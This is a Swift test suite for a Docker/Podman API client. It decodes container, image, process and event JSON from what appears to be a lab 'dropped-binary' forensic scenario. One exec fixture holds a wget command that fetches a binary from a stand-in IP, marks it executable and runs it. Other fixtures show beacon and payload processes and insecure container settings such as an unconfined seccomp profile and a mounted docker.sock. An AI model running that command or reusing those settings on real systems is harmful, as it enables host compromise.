import Foundation
import Testing

@testable import DockerEngine
import TestSupport

@Suite struct ContainerInspectDecodingTests {
    private func inspect(_ fixture: String) throws -> ContainerInspect {
        try EngineJSON.decode(ContainerInspect.self, from: Fixture.data("engine-json/" + fixture), request: "GET /containers/x/json")
    }

    @Test func `Docker 20.10 with overlay2: identity, state, posture fields and host paths`() throws {
        let container = try inspect("docker-20.10-api-1.41-container.json")
        #expect(container.shortID == "4f6c3a4f0e2b")
        #expect(container.name == "web")
        #expect(container.rawName == "/web")
        #expect(container.image == "sha256:0f2c9e5a0d8b7e6f5a4c3b2a19081726354433221100ffeeddccbbaa99887766")
        #expect(container.config?.image == "lab/busybox:1")
        #expect(container.createdTime == EngineTime(seconds: 1_795_947_301, nanoseconds: 884_227_311))

        let state = try #require(container.state)
        #expect(state.status == "running" && state.running == true && state.pid == 48213)
        #expect(state.startedTime == EngineTime(seconds: 1_795_947_302, nanoseconds: 734_981_274))
        #expect(state.finishedAt == "0001-01-01T00:00:00Z")
        #expect(state.finishedTime == nil, "Go's zero time means it never finished")

        let host = try #require(container.hostConfig)
        #expect(host.capAdd == ["SYS_ADMIN"] && host.capDrop == nil)
        #expect(host.pidMode == "host" && host.networkMode == "none" && host.privileged == false)
        #expect(host.securityOpt == ["seccomp=unconfined"])
        #expect(host.binds?.first == "/var/run/docker.sock:/var/run/docker.sock")
        #expect(host.devices?.first?.pathOnHost == "/dev/fuse")
        #expect(host.tmpfs == ["/run": "rw,noexec,nosuid"])
        #expect(host.logConfig?.type == "json-file")
        #expect(host.runtime == "runc")

        #expect(container.mounts?.map(\.type) == ["bind", "bind", "volume"])
        #expect(container.mounts?[1].rw == false)
        #expect(container.mounts?[2].name == "cache")
        #expect(container.execIDs?.count == 1)
        #expect(container.appArmorProfile == "docker-default")
        #expect(container.hasTTY == false)

        #expect(container.storageDriverName == "overlay2")
        #expect(!container.usesSnapshotter)
        #expect(container.upperDir == "/var/lib/docker/overlay2/9b1f3c5e7a9d1b3f5e7c9a1d3b5f7e9c1a3d5b7f9e1c3a5d7b9f1e3c5a7d9b1f/diff")
        #expect(container.lowerDirs.count == 2)
        #expect(container.lowerDirs.first?.hasSuffix("-init/diff") == true)
        #expect(container.graphDriver?.mergedDir?.hasSuffix("/merged") == true)

        let config = try #require(container.config)
        #expect(config.cmd == ["/bin/sh", "-c", "sleep 3600"] && config.entrypoint == nil)
        #expect(config.commandLine == ["/bin/sh", "-c", "sleep 3600"])
        #expect(config.environment.map(\.name) == ["PATH", "API_TOKEN", "EMPTY"])
        #expect(config.environment[1].value == "s3cr3t=with=equals")
        #expect(config.labels == ["scenario": "dropped-binary"])
    }

    @Test func `Docker 29 with the containerd store: no GraphDriver, Storage instead, TTY, health`() throws {
        let container = try inspect("docker-29-api-1.52-container-containerd.json")
        #expect(container.name == "frontend-1")
        #expect(container.graphDriver == nil)
        #expect(container.storage?.rootFS?.snapshot?.name == "overlayfs")
        #expect(container.storageDriverName == "overlayfs")
        #expect(container.usesSnapshotter)
        #expect(container.upperDir == nil && container.lowerDirs.isEmpty)
        #expect(container.hasTTY)
        #expect(container.execIDs == nil)
        let state = try #require(container.state)
        #expect(state.running == false && state.exitCode == 137 && state.pid == 0)
        #expect(state.finishedTime == EngineTime(seconds: 1_795_946_292, nanoseconds: 400_000_001))
        #expect(state.health?.status == "unhealthy" && state.health?.failingStreak == 3)
        #expect(container.hostConfig?.privileged == true)
        #expect(container.hostConfig?.readonlyRootfs == true)
        #expect(container.hostConfig?.mounts?.first?.target == "/host")
        #expect(container.hostConfig?.mounts?.first?.readOnly == true)
        #expect(container.hostConfig?.capAdd == nil && container.hostConfig?.binds == nil)
        #expect(container.config?.commandLine == ["/docker-entrypoint.sh", "nginx", "-g", "daemon off;"])
        #expect(container.config?.user == "101:101")
        #expect(container.config?.stopSignal == "SIGQUIT")
    }

    @Test func `Docker 24 to 28 with the containerd store: GraphDriver with null Data`() throws {
        let json = #"{"Id":"abc","Name":"/x","GraphDriver":{"Name":"overlayfs","Data":null},"State":null,"Config":null,"HostConfig":null,"Mounts":null}"#
        let container = try EngineJSON.decode(ContainerInspect.self, from: Data(json.utf8), request: "test")
        #expect(container.usesSnapshotter)
        #expect(container.storageDriverName == "overlayfs")
        #expect(container.upperDir == nil)
        #expect(container.state == nil && container.mounts == nil)
    }

    @Test func `Podman 4.3: overlay GraphDriver, empty lists, string Entrypoint, null labels`() throws {
        let container = try inspect("podman-4.3-api-1.41-container.json")
        #expect(container.name == "lab-podman")
        #expect(container.storageDriverName == "overlay")
        #expect(container.upperDir == "/var/lib/containers/storage/overlay/77aa88bb99cc00dd11ee22ff33aa44bb55cc66dd77ee88ff99aa00bb11cc22dd/diff")
        #expect(container.lowerDirs == ["/var/lib/containers/storage/overlay/1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b/diff"])
        #expect(container.execIDs == [])
        #expect(container.mounts == [])
        #expect(container.config?.entrypoint == [])
        #expect(container.config?.cmd == ["sleep", "1000"])
        #expect(container.config?.labels == nil)
        #expect(container.hostConfig?.capAdd == [])
        #expect(container.state?.pid == 51077)
        #expect(container.state?.health?.status == "")
        #expect(container.hostConfig?.logConfig?.config == nil)
    }

    @Test func `a name without the leading slash is left alone and a missing one is empty`() throws {
        #expect(ContainerInspect(id: "x", rawName: "plain").name == "plain")
        #expect(ContainerInspect(id: "x").name == "")
        #expect(ContainerInspect(id: "0123456789abcdef").shortID == "0123456789ab")
    }

    @Test func `a wrong type says where`() {
        let json = #"{"Id":"abc","State":{"Pid":"not a number"}}"#
        let error = #expect(throws: DockerEngineError.self) {
            _ = try EngineJSON.decode(ContainerInspect.self, from: Data(json.utf8), request: "GET /containers/abc/json")
        }
        guard case .malformedResponse(let request, let detail) = error else {
            Issue.record("wrong error \(String(describing: error))")
            return
        }
        #expect(request == "GET /containers/abc/json")
        #expect(detail.contains("State.Pid"))
    }

    @Test func `a missing Id is an error, not an empty container`() {
        #expect(throws: DockerEngineError.self) {
            _ = try EngineJSON.decode(ContainerInspect.self, from: Data(#"{"Name":"/x"}"#.utf8), request: "test")
        }
    }

    @Test func `Cmd as a single string is read as one argument`() throws {
        let json = #"{"Id":"abc","Config":{"Cmd":"/bin/sh -c true","Entrypoint":null}}"#
        let container = try EngineJSON.decode(ContainerInspect.self, from: Data(json.utf8), request: "test")
        #expect(container.config?.cmd == ["/bin/sh -c true"])
        let bad = #"{"Id":"abc","Config":{"Cmd":42}}"#
        #expect(throws: DockerEngineError.self) {
            _ = try EngineJSON.decode(ContainerInspect.self, from: Data(bad.utf8), request: "test")
        }
    }

    @Test func `it encodes back to the engine's keys`() throws {
        let container = try inspect("docker-20.10-api-1.41-container.json")
        let data = try JSONEncoder().encode(container)
        let text = String(decoding: data, as: UTF8.self)
        #expect(text.contains(#""Name":"\/web""#) || text.contains(#""Name":"/web""#))
        #expect(try JSONDecoder().decode(ContainerInspect.self, from: data) == container)
    }
}

@Suite struct SystemDecodingTests {
    @Test func `Docker 20.10 info: graph driver, security options`() throws {
        let info = try EngineJSON.decode(SystemInfo.self, from: Fixture.data("engine-json/docker-20.10-api-1.41-info.json"), request: "GET /info")
        #expect(info.driver == "overlay2")
        #expect(!info.usesContainerdImageStore)
        #expect(info.driverStatusValue("Backing Filesystem") == "extfs")
        #expect(info.dockerRootDir == "/var/lib/docker")
        #expect(info.securityOptionNames == ["seccomp", "cgroupns"])
        #expect(!info.isRootless)
        #expect(info.serverVersion == "20.10.24+dfsg1")
        #expect(info.cgroupVersion == "2")
        #expect(info.containerd == nil)
        #expect(info.memTotal == 4_110_323_712)
        #expect(info.warnings?.count == 2)
    }

    @Test func `Docker 29 info: containerd image store and namespaces`() throws {
        let info = try EngineJSON.decode(SystemInfo.self, from: Fixture.data("engine-json/docker-29-api-1.52-info-containerd.json"), request: "GET /info")
        #expect(info.driver == "overlayfs")
        #expect(info.usesContainerdImageStore)
        #expect(info.containerd?.namespaces?.containers == "moby")
        #expect(info.containerd?.address == "/run/containerd/containerd.sock")
        #expect(info.securityOptionNames == ["apparmor", "seccomp", "cgroupns"])
        #expect(info.warnings == nil)
    }

    @Test func `a rootless engine says so in its security options`() {
        #expect(SystemInfo(securityOptions: ["name=seccomp,profile=default", "name=rootless", "name=cgroupns"]).isRootless)
        #expect(!SystemInfo(driverStatus: [["driver-type"]]).usesContainerdImageStore, "a short row must not crash")
    }

    @Test func `Docker and Podman versions, and which engine answers`() throws {
        let docker = try EngineJSON.decode(SystemVersion.self, from: Fixture.data("engine-json/docker-20.10-api-1.41-version.json"), request: "GET /version")
        #expect(docker.apiVersion == "1.41" && docker.minAPIVersion == "1.12")
        #expect(!docker.isPodman)
        #expect(docker.component("containerd")?.version == "1.6.20~ds1")
        #expect(docker.components?.first?.details?["GitCommit"] == "5d6db84")
        #expect(EngineProduct(serverHeader: nil, version: docker) == .docker)

        let podman = try EngineJSON.decode(SystemVersion.self, from: Fixture.data("engine-json/podman-4.3-api-1.41-version.json"), request: "GET /version")
        #expect(podman.isPodman)
        #expect(podman.version == "4.3.1" && podman.apiVersion == "1.41")
        #expect(EngineProduct(serverHeader: nil, version: podman) == .podman)
        #expect(EngineProduct(serverHeader: "Docker/20.10.24+dfsg1 (linux)", version: podman) == .docker, "the header wins")
    }

    @Test(arguments: [
        ("Libpod/4.3.1 (linux)", EngineProduct.podman), ("Docker/29.1.2 (linux)", .docker), ("nginx/1.27", .unknown),
        ("", .unknown),
    ])
    func `the Server header tells Podman from Docker`(header: String, product: EngineProduct) {
        #expect(EngineProduct(serverHeader: header) == product)
    }

    @Test func `odd Details values do not sink the whole version`() throws {
        let json = #"{"Version":"x","Components":[{"Name":"Engine","Version":"1","Details":{"Experimental":false,"Count":3}}]}"#
        let version = try EngineJSON.decode(SystemVersion.self, from: Data(json.utf8), request: "test")
        #expect(version.components?.first?.name == "Engine")
        #expect(version.components?.first?.details == nil)
    }
}

@Suite struct ChangesTopImageDecodingTests {
    @Test func `changes: kinds, and a null body is no changes`() throws {
        let json = #"[{"Path":"/bin","Kind":0},{"Path":"/bin/cat","Kind":0},{"Path":"/tmp/x","Kind":1},{"Path":"/etc/motd","Kind":2},{"Path":"/new","Kind":9}]"#
        let changes = try ContainerChange.decodeList(from: Data(json.utf8))
        #expect(changes.map(\.kind) == [.modified, .modified, .added, .deleted, .unknown(9)])
        #expect(String(changes.map(\.kind.symbol)) == "CCAD?")
        #expect(changes[2] == ContainerChange(path: "/tmp/x", kind: .added))
        #expect(try ContainerChange.decodeList(from: Data("null".utf8)) == [])
        #expect(try ContainerChange.decodeList(from: Data(" null\n".utf8)) == [])
        #expect(try ContainerChange.decodeList(from: Data("[]".utf8)) == [])
        #expect(throws: DockerEngineError.self) { _ = try ContainerChange.decodeList(from: Data()) }
        #expect(throws: DockerEngineError.self) { _ = try ContainerChange.decodeList(from: Data(#"{"message":"x"}"#.utf8)) }
        let encoded = try JSONEncoder().encode(changes[4])
        #expect(try JSONDecoder().decode(ContainerChange.self, from: encoded).kind == .unknown(9))
    }

    @Test func `top with ps -ef columns`() throws {
        let json = #"""
            {"Processes":[["root","48213","48190","0","10:15","?","00:00:00","/bin/sh -c sleep 3600"],["root","48377","48213","0","10:16","?","00:00:00","/tmp/x --beacon 10.0.0.1"]],"Titles":["UID","PID","PPID","C","STIME","TTY","TIME","CMD"]}
            """#
        let list = try EngineJSON.decode(ProcessList.self, from: Data(json.utf8), request: "GET /containers/web/top")
        #expect(list.pidColumn == 1 && list.ppidColumn == 2 && list.commandColumn == 7 && list.userColumn == 0)
        #expect(list.pids == [48213, 48377])
        #expect(list.rows[1].command == "/tmp/x --beacon 10.0.0.1")
        #expect(list.rows[1].ppid == 48213)
        #expect(list.rows[0].user == "root")
    }

    @Test func `top with ps aux and Podman's psgo columns`() throws {
        let aux = ProcessList(
            titles: ["USER", "PID", "%CPU", "%MEM", "VSZ", "RSS", "TTY", "STAT", "START", "TIME", "COMMAND"],
            processes: [["root", "7", "0.0", "0.1", "1000", "500", "?", "S", "10:15", "0:00", "sleep 1000"]])
        #expect(aux.rows.first?.pid == 7 && aux.rows.first?.command == "sleep 1000" && aux.rows.first?.user == "root")
        #expect(aux.ppidColumn == nil && aux.rows.first?.ppid == nil)

        let psgo = ProcessList(
            titles: ["USER", "PID", "PPID", "%CPU", "ELAPSED", "TTY", "TIME", "COMMAND"],
            processes: [["root", "1", "0", "0.000", "2m3.4s", "?", "0s", "sleep 1000"], ["root", "x", "1"]])
        #expect(psgo.rows.map(\.pid) == [1, nil])
        #expect(psgo.rows[1].command == nil, "a short row lacks the column rather than crashing")
    }

    @Test func `Podman running ps inside the container: one title string, rows as single strings`() throws {
        // As Podman 4.3.1 answered for a running container (busybox ps inside it; container PIDs).
        let json = #"""
            {"Processes":[["1 root     sh -c i=0; while :; do sleep 2; done"],["10 root     sh -c /tmp/payload \u003e/proc/1/fd/1 2\u003e/proc/1/fd/2"],["15 root     /tmp/payload"],["55 root     sleep 2"]],"Titles":["PID   USER     COMMAND"]}
            """#
        let list = try EngineJSON.decode(ProcessList.self, from: Data(json.utf8), request: "GET /containers/lab/top")
        #expect(list.hasJoinedColumns)
        #expect(list.columnTitles == ["PID", "USER", "COMMAND"])
        #expect(list.pidColumn == 0 && list.userColumn == 1 && list.commandColumn == 2)
        #expect(list.pids == [1, 10, 15, 55])
        #expect(list.rows[1].command == "sh -c /tmp/payload >/proc/1/fd/1 2>/proc/1/fd/2")
        #expect(list.rows[0].command == "sh -c i=0; while :; do sleep 2; done", "the command keeps its inner spacing")
        #expect(list.rows[2].user == "root")
        #expect(!ProcessList(titles: ["PID", "CMD"], processes: [["1", "x"]]).hasJoinedColumns)
        #expect(!ProcessList(titles: ["PID"], processes: [["1"]]).hasJoinedColumns)
    }

    @Test func `an empty top from Podman has no rows`() throws {
        for json in [#"{"Processes":null,"Titles":null}"#, "{}", #"{"Processes":[],"Titles":["PID"]}"#] {
            let list = try EngineJSON.decode(ProcessList.self, from: Data(json.utf8), request: "test")
            #expect(list.isEmpty && list.rows.isEmpty && list.pids.isEmpty)
        }
        #expect(ProcessList(titles: ["pid", "cmd"], processes: [[" 12 ", "x"]]).pids == [12], "titles match case-insensitively")
    }

    @Test func `Docker 20.10 image inspect with overlay2 layers`() throws {
        let json = #"""
            {"Id":"sha256:0f2c9e5a0d8b7e6f5a4c3b2a19081726354433221100ffeeddccbbaa99887766","RepoTags":["lab/busybox:1"],"RepoDigests":[],"Parent":"","Comment":"Imported from -","Created":"2026-11-29T10:14:58.117266344Z","Container":"","ContainerConfig":{"Hostname":"","Domainname":"","User":"","AttachStdin":false,"AttachStdout":false,"AttachStderr":false,"Tty":false,"OpenStdin":false,"StdinOnce":false,"Env":null,"Cmd":null,"Image":"","Volumes":null,"WorkingDir":"","Entrypoint":null,"OnBuild":null,"Labels":null},"DockerVersion":"20.10.24+dfsg1","Author":"","Config":{"Hostname":"","Domainname":"","User":"","AttachStdin":false,"AttachStdout":false,"AttachStderr":false,"Tty":false,"OpenStdin":false,"StdinOnce":false,"Env":["PATH=/bin"],"Cmd":null,"Image":"","Volumes":null,"WorkingDir":"","Entrypoint":null,"OnBuild":null,"Labels":null},"Architecture":"amd64","Os":"linux","Size":1189648,"VirtualSize":1189648,"GraphDriver":{"Data":{"MergedDir":"/var/lib/docker/overlay2/3c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e/merged","UpperDir":"/var/lib/docker/overlay2/3c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e/diff","WorkDir":"/var/lib/docker/overlay2/3c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e/work"},"Name":"overlay2"},"RootFS":{"Type":"layers","Layers":["sha256:1c5f3e7a9b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a"]},"Metadata":{"LastTagTime":"2026-11-29T10:14:58.2Z"}}
            """#
        let image = try EngineJSON.decode(ImageInspect.self, from: Data(json.utf8), request: "GET /images/x/json")
        #expect(image.repoTags == ["lab/busybox:1"])
        #expect(image.config?.env == ["PATH=/bin"] && image.config?.cmd == nil)
        #expect(image.rootFS?.layers?.count == 1 && image.rootFS?.type == "layers")
        #expect(image.graphDriver?.name == "overlay2")
        #expect(image.layerDirs == ["/var/lib/docker/overlay2/3c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2e/diff"])
        #expect(image.size == 1_189_648 && image.os == "linux" && image.architecture == "amd64")
        #expect(image.createdTime?.nanoseconds == 117_266_344)
    }

    @Test func `Docker 29 image inspect without GraphDriver`() throws {
        let json = #"""
            {"Id":"sha256:e4720093a3c1381245b53a5a51b417963b3c4472d3f47fc301930a4f3b17666a","RepoTags":["nginx:1.27"],"RepoDigests":["nginx@sha256:5ed8fcc66f4ed123c1b2560ed708dc148755b6e4cbd8b943fab094f2c6bfa91e"],"Created":"2024-11-26T18:42:08Z","Config":{"ExposedPorts":{"80/tcp":{}},"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],"Entrypoint":["/docker-entrypoint.sh"],"Cmd":["nginx","-g","daemon off;"],"Labels":{"maintainer":"NGINX Docker Maintainers <docker-maint@nginx.com>"},"StopSignal":"SIGQUIT"},"Architecture":"amd64","Os":"linux","Size":72099410,"RootFS":{"Type":"layers","Layers":["sha256:c0f1022b22a9","sha256:e4d1f5e6a8b9"]},"Metadata":{"LastTagTime":"0001-01-01T00:00:00Z"},"Descriptor":{"mediaType":"application/vnd.oci.image.index.v1+json","digest":"sha256:5ed8fcc66f4ed123c1b2560ed708dc148755b6e4cbd8b943fab094f2c6bfa91e","size":10229},"Identity":{"Pull":[{"Repository":"docker.io/library/nginx"}]}}
            """#
        let image = try EngineJSON.decode(ImageInspect.self, from: Data(json.utf8), request: "test")
        #expect(image.graphDriver == nil && image.layerDirs.isEmpty)
        #expect(image.config?.commandLine == ["/docker-entrypoint.sh", "nginx", "-g", "daemon off;"])
        #expect(image.rootFS?.layers == ["sha256:c0f1022b22a9", "sha256:e4d1f5e6a8b9"])
    }

    @Test func `image history with missing ids`() throws {
        let json = #"""
            [{"Comment":"","Created":1732646528,"CreatedBy":"CMD [\"nginx\" \"-g\" \"daemon off;\"]","Id":"sha256:e4720093a3c1","Size":0,"Tags":["nginx:1.27"]},{"Comment":"buildkit.dockerfile.v0","Created":1732646528,"CreatedBy":"COPY 30-tune-worker-processes.sh /docker-entrypoint.d # buildkit","Id":"<missing>","Size":4620,"Tags":null}]
            """#
        let history = try EngineJSON.decode([ImageHistoryItem].self, from: Data(json.utf8), request: "test")
        #expect(history.map(\.isMissingImage) == [false, true])
        #expect(history[1].size == 4620 && history[1].tags == nil)
        #expect(history[0].createdTime == EngineTime(seconds: 1_732_646_528))
        #expect(history[1].createdBy?.hasPrefix("COPY") == true)
    }

    @Test func `exec inspect, and engine error bodies from Docker and Podman`() throws {
        let json = #"""
            {"CanRemove":false,"ContainerID":"4f6c3a4f0e2b8f9b7c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b","DetachKeys":"","ExitCode":null,"ID":"8d1e0b2c4a6f8e0d","OpenStderr":true,"OpenStdin":false,"OpenStdout":true,"ProcessConfig":{"arguments":["-c","wget -q -O /tmp/x http://198.51.100.7/x && chmod +x /tmp/x && /tmp/x"],"entrypoint":"sh","privileged":false,"tty":false,"user":"root"},"Running":true,"Pid":48377}
            """#
        let exec = try EngineJSON.decode(ExecInspect.self, from: Data(json.utf8), request: "GET /exec/8d1e/json")
        #expect(exec.running == true && exec.exitCode == nil && exec.pid == 48377)
        #expect(exec.commandLine.first == "sh" && exec.commandLine.count == 3)
        #expect(exec.processConfig?.user == "root")

        #expect(EngineErrorBody.message(in: Data(#"{"message":"No such container: nope"}"#.utf8)) == "No such container: nope")
        let podman = try JSONDecoder().decode(
            EngineErrorBody.self,
            from: Data(#"{"cause":"no such container","message":"no container with name or ID \"nope\" found: no such container","response":404}"#.utf8))
        #expect(podman.response == 404 && podman.cause == "no such container")
        #expect(EngineErrorBody.message(in: Data("page not found\n".utf8)) == "page not found")
        #expect(EngineErrorBody.message(in: Data()) == nil)
    }
}

@Suite struct EngineEventTests {
    private let dockerStream = #"""
        {"status":"exec_create: sh -c id","id":"4f6c3a4f0e2b","from":"lab/busybox:1","Type":"container","Action":"exec_create: sh -c id","Actor":{"ID":"4f6c3a4f0e2b","Attributes":{"execID":"8d1e0b2c","image":"lab/busybox:1","name":"web","scenario":"dropped-binary"}},"scope":"local","time":1795947360,"timeNano":1795947360123456789}
        {"status":"exec_start: sh -c id","id":"4f6c3a4f0e2b","from":"lab/busybox:1","Type":"container","Action":"exec_start: sh -c id","Actor":{"ID":"4f6c3a4f0e2b","Attributes":{"execID":"8d1e0b2c","image":"lab/busybox:1","name":"web"}},"scope":"local","time":1795947360,"timeNano":1795947360223456789}

        {"Type":"container","Action":"exec_die","Actor":{"ID":"4f6c3a4f0e2b","Attributes":{"execID":"8d1e0b2c","exitCode":"0","image":"lab/busybox:1","name":"web"}},"scope":"local","time":1795947361,"timeNano":1795947361000000001}
        {"Type":"container","Action":"health_status: healthy","Actor":{"ID":"4f6c3a4f0e2b","Attributes":{"name":"web"}},"scope":"local","time":1795947362,"timeNano":0}
        """#

    private let podmanStream = #"""
        {"status":"exec","id":"c0ffee123456","from":"localhost/lab/busybox:1","Type":"container","Action":"exec","Actor":{"ID":"c0ffee123456","Attributes":{"containerExitCode":"0","image":"localhost/lab/busybox:1","name":"lab-podman","podId":""}},"scope":"local","time":1795947400,"timeNano":1795947400000000000}
        {"status":"exec_died","id":"c0ffee123456","from":"localhost/lab/busybox:1","Type":"container","Action":"exec_died","Actor":{"ID":"c0ffee123456","Attributes":{"containerExitCode":"0","image":"localhost/lab/busybox:1","name":"lab-podman","podId":""}},"scope":"local","time":1795947401,"timeNano":1795947401000000000}
        """#

    private func events(_ text: String) throws -> [EngineEvent] {
        var splitter = JSONLineSplitter()
        var events: [EngineEvent] = []
        try Array(text.utf8).withUnsafeBytes { chunk in
            try splitter.feed(chunk) { line in events.append(try EngineEvent(jsonLine: line)) }
        }
        try splitter.finish { line in events.append(try EngineEvent(jsonLine: line)) }
        return events
    }

    @Test func `Docker exec events carry the command in the action`() throws {
        let events = try events(dockerStream)
        #expect(events.count == 4)
        #expect(events.map(\.baseAction) == ["exec_create", "exec_start", "exec_die", "health_status"])
        #expect(events.map(\.execCommand) == ["sh -c id", "sh -c id", nil, nil])
        #expect(events.map(\.isExec) == [true, true, true, false])
        #expect(events[3].actionDetail == "healthy")
        #expect(events[0].execID == "8d1e0b2c" && events[0].containerName == "web" && events[0].image == "lab/busybox:1")
        #expect(events[0].actorID == "4f6c3a4f0e2b")
        #expect(events[0].instant == EngineTime(seconds: 1_795_947_360, nanoseconds: 123_456_789))
        #expect(events[3].instant == EngineTime(seconds: 1_795_947_362), "timeNano 0 falls back to time")
        #expect(events[2].attribute("exitCode") == "0")
    }

    @Test func `Podman exec events have no command`() throws {
        let events = try events(podmanStream)
        #expect(events.map(\.baseAction) == ["exec", "exec_died"])
        #expect(events.allSatisfy { $0.isExec && $0.execCommand == nil })
        #expect(events[0].attribute("podId") == nil, "empty attributes count as absent")
        #expect(events[0].containerName == "lab-podman")
    }

    @Test func `API 1.52 events without the deprecated fields`() throws {
        let event = try events(#"{"Type":"image","Action":"delete","Actor":{"ID":"sha256:abc","Attributes":{}},"scope":"local","time":1,"timeNano":1000000001}"#)
        #expect(event.first?.status == nil && event.first?.from == nil)
        #expect(event.first?.baseAction == "delete" && event.first?.actorID == "sha256:abc")
        #expect(event.first?.instant == EngineTime(seconds: 1, nanoseconds: 1))
    }

    @Test func `a bad event line is an error naming the request`() {
        let error = #expect(throws: DockerEngineError.self) { _ = try events(#"{"Type":5}"#) }
        guard case .malformedResponse(let request, _) = error else {
            Issue.record("wrong error \(String(describing: error))")
            return
        }
        #expect(request == "GET /events")
    }
}
